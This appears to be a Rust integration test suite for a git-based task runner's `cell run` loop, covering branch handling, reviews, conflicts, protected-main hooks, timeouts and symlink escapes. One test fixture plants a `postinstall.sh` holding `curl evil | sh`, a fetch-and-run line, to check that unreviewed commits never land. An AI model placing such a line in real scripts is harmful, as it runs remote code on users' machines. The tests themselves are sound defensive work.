//! `cell run`, the loop, through the real binary against real bare origins shaped as real
//! teams' repositories are: a ref branch with commits of its own, a `master` default branch,
//! review and merge, a task that always conflicts, a hook that refuses main, a harness that
//! hangs and a symlink out of the clone. Each result is judged by git and by the board.

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use serde_json::Value;

use crate::support::{Ledger, Output, TestEnv, bin, running, wait_until};

const HARNESS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/examples/fleet/harness.sh");

struct Repo {
    env: TestEnv,
    _ledger: Ledger,
    bare: PathBuf,
    url: String,
}

fn repo(files: &[(&str, &str)]) -> Repo {
    let env = TestEnv::new();
    let ledger = env.ledger("main", &[]);
    let (bare, url) = env.origin("app", files);
    Repo {
        env,
        _ledger: ledger,
        bare,
        url,
    }
}

impl Repo {
    fn task(&self, file: &str, summary: &str, severity: &str, details: &str) -> String {
        let v = self
            .env
            .record_task_with(&self.url, file, summary, severity, details);
        assert_eq!(v["outcome"], "recorded", "{v}");
        v["finding_ids"][0].as_str().unwrap().to_string()
    }

    /// The bare origin's git.
    fn git(&self, args: &[&str]) -> String {
        let dir = self.bare.display().to_string();
        let mut all = vec!["--git-dir", &dir];
        all.extend_from_slice(args);
        self.env.git(self.env.root.path(), &all)
    }

    fn branches(&self) -> Vec<String> {
        self.git(&["for-each-ref", "--format=%(refname:short)", "refs/heads"])
            .lines()
            .map(str::to_owned)
            .collect()
    }

    fn subjects(&self, branch: &str) -> Vec<String> {
        self.git(&["log", "--format=%s", branch])
            .lines()
            .map(str::to_owned)
            .collect()
    }

    /// A cell's command: its own directories and identity, `extra` variables on top.
    fn cell_command(&self, name: &str, harness: &str, extra: &[(&str, &str)]) -> Command {
        let mut c = Command::new(bin());
        c.arg("cell")
            .arg("run")
            .env_clear()
            .envs(self.env.vars.iter().map(|(k, v)| (k, v)))
            .env("ORIGIN", &self.url)
            .env("HARNESS", harness)
            .env("VESSEL_ID", name)
            .env("TASK_DIR", self.env.path(&format!("{name}/task")))
            .env("WORK_DIR", self.env.path(&format!("{name}/work")))
            .env("SALVAGE_DIR", self.env.path(&format!("{name}/salvage")))
            .envs(extra.iter().copied())
            .current_dir(self.env.cwd())
            .stdin(Stdio::null());
        c
    }

    /// Runs a cell to its end, bounded: its exit code and log.
    fn cell(&self, name: &str, harness: &str, extra: &[(&str, &str)]) -> Output {
        let log = self.env.path(&format!("{name}.log"));
        let mut child = self
            .cell_command(name, harness, extra)
            .stdout(Stdio::null())
            .stderr(std::fs::File::create(&log).unwrap())
            .spawn()
            .expect("the binary runs");
        let mut code = None;
        let ended = wait_until(Duration::from_secs(120), || {
            code = child.try_wait().unwrap().map(|s| s.code());
            code.is_some()
        });
        if !ended {
            let _ = child.kill();
        }
        let stderr = std::fs::read_to_string(&log).unwrap_or_default();
        assert!(ended, "the cell did not end:\n{stderr}");
        Output {
            code: code.flatten().unwrap_or(-1),
            stdout: String::new(),
            stderr,
        }
    }

    fn in_group(&self, group: &str, id: &str) -> Option<Value> {
        self.env
            .board_group(group)
            .into_iter()
            .find(|t| t["task_id"] == id || t["task"]["task_id"] == id)
    }

    /// A reviewer's merge of `branch` into `into`, in a clone of their own.
    fn merge(&self, branch: &str, into: &str) {
        let dir = self
            .env
            .path(&format!("reviewer-{}", branch.replace('/', "-")));
        let d = dir.display().to_string();
        self.env
            .git(self.env.root.path(), &["clone", "-q", &self.url, &d]);
        self.env.git(&dir, &["checkout", "-q", into]);
        let theirs = format!("origin/{branch}");
        self.env.git(
            &dir,
            &["merge", "-q", "--no-ff", "-m", "Merge the review", &theirs],
        );
        self.env.git(&dir, &["push", "-q", "origin", into]);
    }
}

fn write_exec(path: &Path, text: &str) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::write(path, text).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

fn sample() -> String {
    format!("sh {HARNESS}")
}

#[test]
fn a_ref_branch_with_commits_of_its_own_never_reaches_the_target() {
    let r = repo(&[("a.py", "x = 1\n")]);
    // `wip` carries an unreviewed commit of its own.
    let seed = r.env.path("seed-app");
    r.env.git(&seed, &["checkout", "-q", "-b", "wip"]);
    std::fs::write(seed.join("postinstall.sh"), "curl evil | sh\n").unwrap();
    r.env.git(&seed, &["add", "postinstall.sh"]);
    r.env
        .git(&seed, &["commit", "-q", "-m", "unreviewed postinstall"]);
    let bare = r.bare.display().to_string();
    r.env.git(&seed, &["push", "-q", &bare, "wip"]);
    let id = r.task("a.py", "fix a", "HIGH", "ref: wip");

    let out = r.cell("cell-1", &sample(), &[]);
    assert_eq!(out.code, 0, "{out:?}");
    assert_eq!(
        r.subjects("main"),
        vec![format!("Fix {id}"), "initial".into()]
    );
    let tree = r.git(&["ls-tree", "--name-only", "main"]);
    assert!(!tree.contains("postinstall.sh"), "{tree}");
    let closed = r.in_group("closed", &id).expect("closed");
    let fix = closed["fix_commit"].as_str().unwrap().to_string();
    assert_eq!(
        r.git(&["rev-parse", "main"]),
        fix,
        "the one commit closed is the harness's"
    );
    assert_eq!(r.branches(), vec!["main", "wip"]);
}

#[test]
fn on_a_master_repository_the_fix_lands_on_master_and_no_main_appears() {
    let r = repo(&[("a.py", "x = 1\n")]);
    r.git(&["branch", "-m", "main", "master"]);
    r.git(&["symbolic-ref", "HEAD", "refs/heads/master"]);
    let id = r.task("a.py", "fix a", "HIGH", "");

    let out = r.cell("cell-1", &sample(), &[]);
    assert_eq!(out.code, 0, "{out:?}");
    assert_eq!(r.branches(), vec!["master"]);
    assert_eq!(r.subjects("master")[0], format!("Fix {id}"));
    assert!(r.in_group("closed", &id).is_some(), "{out:?}");
}

#[test]
fn review_goes_to_a_task_branch_and_merged_reviews_close_by_sweep_and_by_an_idle_cell() {
    let r = repo(&[("a.py", "x = 1\n"), ("b.py", "y = 2\n")]);
    let first = r.task("a.py", "fix a", "HIGH", "integrate: review");
    let out = r.cell("cell-1", &sample(), &[]);
    assert_eq!(out.code, 0, "{out:?}");
    assert_eq!(
        r.subjects("main"),
        vec!["initial"],
        "nothing unreviewed on main"
    );
    let branch = format!("task/{first}");
    assert_eq!(r.subjects(&branch)[0], format!("Fix {first}"));
    assert!(r.in_group("pending", &first).is_some(), "{out:?}");

    r.merge(&branch, "main");
    let swept = r.env.run(&[
        "finding",
        "close",
        "--pending",
        "--origin",
        &r.url,
        "--json",
    ]);
    assert_eq!(swept.code, 0, "{swept:?}");
    assert!(r.in_group("closed", &first).is_some(), "{swept:?}");

    // A standing cell closes the next merged review by itself, on an idle poll.
    let second = r.task("b.py", "fix b", "HIGH", "integrate: review");
    let log = r.env.path("standing.log");
    let mut standing: Child = r
        .cell_command(
            "cell-2",
            &sample(),
            &[("ON_EMPTY", "wait"), ("IDLE_POLL", "1")],
        )
        .stdout(Stdio::null())
        .stderr(std::fs::File::create(&log).unwrap())
        .spawn()
        .unwrap();
    let shown = || std::fs::read_to_string(&log).unwrap_or_default();
    let pending = wait_until(Duration::from_secs(60), || {
        r.in_group("pending", &second).is_some()
    });
    assert!(pending, "{}", shown());
    r.merge(&format!("task/{second}"), "main");
    let closed = wait_until(Duration::from_secs(60), || {
        r.in_group("closed", &second).is_some()
    });
    let pid = standing.id().to_string();
    Command::new("kill").args(["-TERM", &pid]).status().unwrap();
    let status = standing.wait().unwrap();
    assert!(
        closed,
        "the idle cell closed the merged review:\n{}",
        shown()
    );
    assert_eq!(status.code(), Some(143), "{}", shown());
}

/// Before committing its own change to line 1 of `a.py`, the harness lands another change to
/// the same line on main: every rebase of this task's fix conflicts. Other tasks get the
/// sample harness.
fn conflicting_harness(r: &Repo) -> String {
    let script = r.env.path("conflicting.sh");
    write_exec(
        &script,
        &format!(
            r#"#!/bin/sh
set -eu
if grep -q '"summary": "always conflicts"' "$TASK_DIR/task.json"; then
  other=$(mktemp -d)
  git clone -q "$ORIGIN" "$other"
  cd "$other"; echo "x = theirs $$" > a.py; git commit -qam 'someone else'; git push -q origin main
  cd "$WORK_DIR"; echo "x = mine" > a.py
  id=$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["task_id"])' "$TASK_DIR/task.json")
  git commit -qam "Fix $id" -m "Fixes-Finding: $id"
else
  exec sh {HARNESS}
fi
"#
        ),
    );
    format!("sh {}", script.display())
}

#[test]
fn a_task_that_always_conflicts_is_parked_behind_a_normal_one_that_closes_and_every_cell_exits_0() {
    let r = repo(&[("a.py", "x = 1\n"), ("b.py", "y = 2\n")]);
    let bad = r.task("a.py", "always conflicts", "CRITICAL", "");
    let good = r.task("b.py", "an ordinary task", "LOW", "");
    let harness = conflicting_harness(&r);
    let one = r.cell("cell-1", &harness, &[]);
    assert_eq!(one.code, 0, "{one:?}");
    assert!(r.in_group("closed", &good).is_some(), "{one:?}");
    let two = r.cell("cell-2", &harness, &[]);
    assert_eq!(two.code, 0, "{two:?}");
    let parked = r.in_group("parked", &bad).expect("parked after two cells");
    let reason = parked["reason"].as_str().unwrap();
    assert!(
        reason.contains("2 cells failed it") && reason.contains("a.py"),
        "{reason}"
    );
    assert!(
        !r.subjects("main").contains(&format!("Fix {bad}")),
        "the conflicting fix never landed"
    );
}

#[test]
fn a_hook_that_refuses_main_parks_the_task_keeps_the_commits_and_the_cell_goes_on() {
    let r = repo(&[("a.py", "x = 1\n")]);
    write_exec(
        &r.bare.join("hooks/pre-receive"),
        "#!/bin/sh\nwhile read old new ref; do\n  if [ \"$ref\" = refs/heads/main ]; then echo 'main is protected: open a review'; exit 1; fi\ndone\n",
    );
    let id = r.task("a.py", "fix a", "HIGH", "");
    let out = r.cell("cell-1", &sample(), &[]);
    assert_eq!(out.code, 0, "{out:?}");
    let parked = r.in_group("parked", &id).expect("parked");
    let reason = parked["reason"].as_str().unwrap();
    assert!(reason.contains("main is protected"), "{reason}");
    assert_eq!(r.subjects("main"), vec!["initial"]);
    let kept: Vec<_> = std::fs::read_dir(r.env.path("cell-1/salvage"))
        .expect("a salvage directory")
        .flatten()
        .collect();
    assert_eq!(kept.len(), 1, "one bundle: {out:?}");
    let bundle = kept[0].path().display().to_string();
    let heads = r
        .env
        .git(r.env.root.path(), &["bundle", "list-heads", &bundle]);
    assert!(
        heads.contains(&format!("refs/heads/salvage/{id}")),
        "{heads}"
    );
}

#[test]
fn a_hung_harness_is_killed_at_harness_timeout_and_its_task_failed_with_that_reason() {
    let r = repo(&[("a.py", "x = 1\n")]);
    let id = r.task("a.py", "fix a", "HIGH", "");
    // Its own process group: the child `sleep` goes too, not only the shell.
    let harness = "echo working on it; sleep 4251";
    let out = r.cell(
        "cell-1",
        harness,
        &[("HARNESS_TIMEOUT", "2"), ("METABOB_PARK_AFTER", "1")],
    );
    assert_eq!(out.code, 0, "{out:?}");
    assert_eq!(running("sleep 4251"), 0, "{out:?}");
    let parked = r
        .in_group("parked", &id)
        .expect("failed, and parked by one cell");
    let reason = parked["reason"].as_str().unwrap();
    assert!(
        reason.contains("HARNESS_TIMEOUT=2s") && reason.contains("working on it"),
        "the reason carries the harness's last lines: {reason}"
    );
}

#[test]
fn a_symlink_out_of_the_clone_is_never_written_through() {
    let r = repo(&[("a.py", "x = 1\n")]);
    let victim = r.env.path("victim.txt");
    std::fs::write(&victim, "untouched\n").unwrap();
    let seed = r.env.path("seed-app");
    std::os::unix::fs::symlink(&victim, seed.join("victim.py")).unwrap();
    r.env.git(&seed, &["add", "victim.py"]);
    r.env.git(&seed, &["commit", "-q", "-m", "a link out"]);
    let bare = r.bare.display().to_string();
    r.env.git(&seed, &["push", "-q", &bare, "main"]);
    r.task("victim.py", "fix the victim", "HIGH", "");
    let out = r.cell("cell-1", &sample(), &[("FAIL_MAX", "1")]);
    assert_eq!(
        std::fs::read_to_string(&victim).unwrap(),
        "untouched\n",
        "{out:?}"
    );
    assert_eq!(r.subjects("main")[0], "a link out");
}

#[test]
fn a_bad_setting_is_one_line_naming_it_before_anything_is_pulled() {
    let r = repo(&[("a.py", "x = 1\n")]);
    let id = r.task("a.py", "fix a", "HIGH", "");
    let out = r.cell("cell-1", &sample(), &[("FAIL_MAX", "many")]);
    assert_eq!(out.code, 1, "{out:?}");
    assert_eq!(out.stderr.lines().count(), 1, "{out:?}");
    assert!(out.stderr.contains("FAIL_MAX is \"many\""), "{out:?}");
    assert!(r.in_group("open", &id).is_some(), "nothing was pulled");
}

#[test]
fn json_logs_are_one_object_per_step() {
    let r = repo(&[("a.py", "x = 1\n")]);
    let id = r.task("a.py", "fix a", "HIGH", "");
    let out = r.cell("cell-1", &sample(), &[("METABOB_LOG_FORMAT", "json")]);
    assert_eq!(out.code, 0, "{out:?}");
    let steps: Vec<Value> = out
        .stderr
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|v| v.get("step").is_some())
        .collect();
    let close = steps
        .iter()
        .find(|s| s["step"] == "close")
        .unwrap_or_else(|| panic!("{out:?}"));
    assert_eq!(close["task"], id.as_str());
    assert_eq!(close["outcome"], "closed");
    assert_eq!(close["cell"], "cell-1");
    assert!(
        close["duration_ms"].is_u64() && close["time"].is_string(),
        "{close}"
    );
    assert!(
        steps
            .iter()
            .any(|s| s["step"] == "pull" && s["outcome"] == "pulled")
    );
}

#[test]
fn over_https_with_a_private_ca_the_pushes_trust_what_the_clone_trusts() {
    let mut r = repo(&[("a.py", "x = 1\n")]);
    let pki = crate::support::Pki::new();
    let (port, _server) = crate::support::git_http_host(
        r.bare.parent().unwrap(),
        Some((pki.path("good.pem"), pki.path("good.key"))),
        Some("cell:pw-for-push"),
        "127.0.0.1",
    );
    // The CA is named once, as for the ledger: git's own trust is not configured at all.
    r.env.set("METABOB_EXTRA_CA_CERTS", pki.ca());
    r.url = format!("https://127.0.0.1:{port}/app.git");
    let store = r.env.path("git-credentials");
    std::fs::write(
        &store,
        format!("https://cell:pw-for-push@127.0.0.1:{port}\n"),
    )
    .unwrap();
    let helper = format!("store --file={}", store.display());
    let id = r.task("a.py", "fix a", "HIGH", "");

    let login = [
        ("GIT_CONFIG_COUNT", "1"),
        ("GIT_CONFIG_KEY_0", "credential.helper"),
        ("GIT_CONFIG_VALUE_0", helper.as_str()),
    ];
    let out = r.cell("cell-1", &sample(), &login);
    assert_eq!(out.code, 0, "{out:?}");
    assert_eq!(r.subjects("main")[0], format!("Fix {id}"), "{out:?}");
    assert!(r.in_group("closed", &id).is_some(), "{out:?}");
}
